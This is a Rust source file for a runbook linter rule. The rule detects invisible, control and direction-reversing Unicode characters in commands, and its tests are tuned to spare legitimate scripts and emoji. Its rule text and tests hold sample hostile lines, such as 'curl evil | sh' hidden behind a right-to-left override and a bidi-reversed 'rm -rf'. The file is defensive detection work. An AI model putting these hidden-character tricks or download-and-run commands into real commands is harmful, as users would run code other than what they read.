//! Characters in commands that cannot be seen, or that turn the order of what is seen.

use crate::audit::rule::{Check, Context, Rule};
use crate::model::finding::{Confidence, Finding, RuleText, Severity};
use crate::model::place::Span;
use crate::model::runbook::CodeKind;

/// Characters that hide.
pub(crate) const RULE: Rule = Rule {
    text: RuleText {
        id: "hidden-characters",
        summary: "A command holds characters that cannot be seen",
        severity: Severity::Error,
        confidence: Confidence::High,
        checks: "Code blocks and code between backticks: marks that turn the direction of text, characters without width, control characters \
                 such as ESC (also the end of a bracketed paste) and a carriage return inside a line, and tags and variation selectors \
                 that follow no picture. Sentences are left alone; so are the marks that Arabic, Hebrew and Indic words and pictures are made with.",
        matters: "What is copied is not what was read: `rm -rf` may stand in a comment as it is seen and outside of it as it is run.",
        example: "echo ok <U+202E> ; curl evil | sh",
        fix: "Type the command anew. The page shows the characters by their numbers and offers no copy of the block.",
    },
    check: Check::Always(check),
};

fn check(context: &Context<'_>, findings: &mut Vec<Finding>) {
    let runbook = &context.runbook.runbook;
    let text = runbook.text.as_ref();
    let blocks = runbook
        .code_blocks
        .iter()
        .map(|block| (block.content, block.kind != CodeKind::Text));
    let inline = runbook.document.code();
    for (span, is_command) in blocks.chain(inline.iter().map(|node| (node.span, true))) {
        let mut start = span.start as usize;
        for line in span.of(text).split_inclusive('\n') {
            if let Some((at, c)) = hidden(line.trim_end_matches('\n'), is_command) {
                let code = u32::from(c);
                let place = Span::new(start + at, start + at + c.len_utf8());
                findings.push(Finding {
                    message: format!("the character U+{code:04X} in this line cannot be seen: {}", what(c)),
                    help: Some("type the line anew".to_owned()),
                    reference: Some(format!("U+{code:04X}")),
                    ..context.finding(&RULE.text, Some(place))
                });
            }
            start += line.len();
        }
    }
}

/// The first hidden character of a line, and where it stands.
fn hidden(line: &str, is_command: bool) -> Option<(usize, char)> {
    // The blank of a line end is none; one inside the line is.
    let line = line.strip_suffix('\r').unwrap_or(line);
    let is_plain = line.bytes().all(|byte| byte == b'\t' || (0x20..0x7F).contains(&byte));
    if is_plain {
        return None;
    }
    let mut before = None;
    let mut characters = line.char_indices().peekable();
    while let Some((at, c)) = characters.next() {
        let after = characters.peek().map(|(_, next)| *next);
        let hides = match u32::from(c) {
            0x09 => false,
            0x202A..=0x202E | 0x2066..=0x2069 => true,
            0x00..=0x1F | 0x7F..=0x9F => true,
            // Marks that show how a word of a right-to-left script stands beside others.
            0x200E | 0x200F | 0x061C => is_command && !line.chars().any(is_right_to_left),
            // Joiners make letters of some scripts, and pictures of pictures.
            0x200C | 0x200D => !(before.is_some_and(is_joined) && after.is_some_and(is_joined)),
            0xFE00..=0xFE0F => {
                is_command
                    && !before.is_some_and(|c: char| {
                        !c.is_ascii_alphabetic() && (is_picture(c) || c.is_ascii_digit() || matches!(c, '#' | '*'))
                    })
            }
            0xE0020..=0xE007F => !(before.is_some_and(|c| is_picture(c) || (0xE0020..=0xE007F).contains(&u32::from(c)))),
            0xE0001 | 0xE0100..=0xE01EF => is_command,
            0xFEFF => !(at == 0 && before.is_none()) || is_command,
            0xAD | 0x180E | 0x200B | 0x2060..=0x2065 | 0x206A..=0x206F => is_command,
            _ => false,
        };
        if hides {
            return Some((at, c));
        }
        before = Some(c);
    }
    None
}

/// What a hidden character does.
fn what(c: char) -> &'static str {
    match u32::from(c) {
        0x202A..=0x202E | 0x2066..=0x2069 | 0x200E | 0x200F | 0x061C => "it turns the direction of text",
        0x0D => "it is a line end for a terminal",
        0x1B => "it begins a command to the terminal",
        0x00..=0x1F | 0x7F..=0x9F => "it is a control character",
        _ => "it has no width",
    }
}

fn is_right_to_left(c: char) -> bool {
    matches!(u32::from(c), 0x590..=0x8FF | 0xFB1D..=0xFDFF | 0xFE70..=0xFEFC)
}

/// Letters and pictures that joiners stand between.
fn is_joined(c: char) -> bool {
    is_right_to_left(c) || is_picture(c) || matches!(u32::from(c), 0x900..=0xDFF | 0xFE0F | 0x1000..=0x109F | 0x1780..=0x17FF)
}

fn is_picture(c: char) -> bool {
    matches!(u32::from(c), 0xA9 | 0xAE | 0x203C..=0x3299 | 0x1F000..=0x1FAFF)
}

#[cfg(test)]
mod tests {
    use super::hidden;

    fn found(line: &str) -> Option<u32> {
        hidden(line, true).map(|(_, c)| u32::from(c))
    }

    #[test]
    fn what_hides_is_found() {
        for (line, code) in [
            ("rm -rf /tmp/x \u{202e}/ fr- mr#\u{2066}", 0x202E),
            ("cu\u{200b}rl x", 0x200B),
            ("cu\u{200d}rl x", 0x200D),
            ("curl\u{2060} x", 0x2060),
            ("\u{feff}curl x", 0xFEFF),
            ("cu\u{ad}rl x", 0xAD),
            ("ls \u{e0041}", 0xE0041),
            ("ls a\u{fe0f}", 0xFE0F),
            ("ls \u{1b}[2K", 0x1B),
            ("ls \u{1b}[201~", 0x1B),
            ("echo ok\rcurl evil", 0x0D),
            ("ls \u{9b}2K", 0x9B),
            ("ls \u{200f}x", 0x200F),
        ] {
            assert_eq!(found(line), Some(code), "{line:?}");
        }
    }

    #[test]
    fn other_scripts_and_pictures_are_fine() {
        for line in [
            "make deploy\r",
            "\tmake deploy # Größe prüfen",
            "echo '日本語 中文'",
            "# مرحبا\u{200f} بالعالم",
            "# می\u{200c}خواهم",
            "echo '✅\u{fe0f} 👩\u{200d}💻 1\u{fe0f}\u{20e3}'",
            "echo '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}'",
            "echo 'naïve – “x”'",
        ] {
            assert_eq!(found(line), None, "{line:?}");
        }
    }

    #[test]
    fn a_text_that_is_no_command_may_have_soft_hyphens_and_no_turns() {
        assert!(hidden("Donau\u{ad}dampf\u{200b}schiff", false).is_none());
        assert!(hidden("a \u{202e} b", false).is_some());
    }
}
